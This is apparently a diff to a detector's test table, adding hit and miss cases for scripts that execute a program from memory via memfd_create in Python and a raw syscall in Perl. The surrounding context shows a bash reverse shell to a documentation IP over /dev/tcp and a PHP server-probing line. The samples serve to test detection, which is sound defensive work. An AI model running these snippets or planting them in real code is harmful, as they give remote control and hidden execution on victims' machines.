@@ -13,6 +13,22 @@ move_uploaded_file($_FILES["f"]["tmp_name"], "x"); chmod("x", 0644); unlink("y")
 echo php_uname(); mysql_connect("localhost", "a", "b"); $s = fsockopen("localhost", 80); echo ini_get("safe_mode"); ?>`
 
 export const ACTS: CaseTable<Text> = {
+  script_runs_program_from_memory: {
+    hits: {
+      'by the call of Python': [
+        'python',
+        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv(f"/proc/self/fd/{fd}", ["a"])',
+      ],
+      'by the number of the call': [
+        'perl',
+        'my $fd = syscall(319, my $n = "", 1); print {$out} $body; exec {"/proc/$$/fd/$fd"} "a";',
+      ],
+    },
+    misses: {
+      'memory that is shared': ['python', 'import os, mmap\nfd = os.memfd_create("ring")\nm = mmap.mmap(fd, 4096)'],
+      'open files that are counted': ['python', 'import os\nprint(len(os.listdir("/proc/self/fd/")))'],
+    },
+  },
   script_opens_reverse_shell: {
     hits: { 'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] },
     misses: {
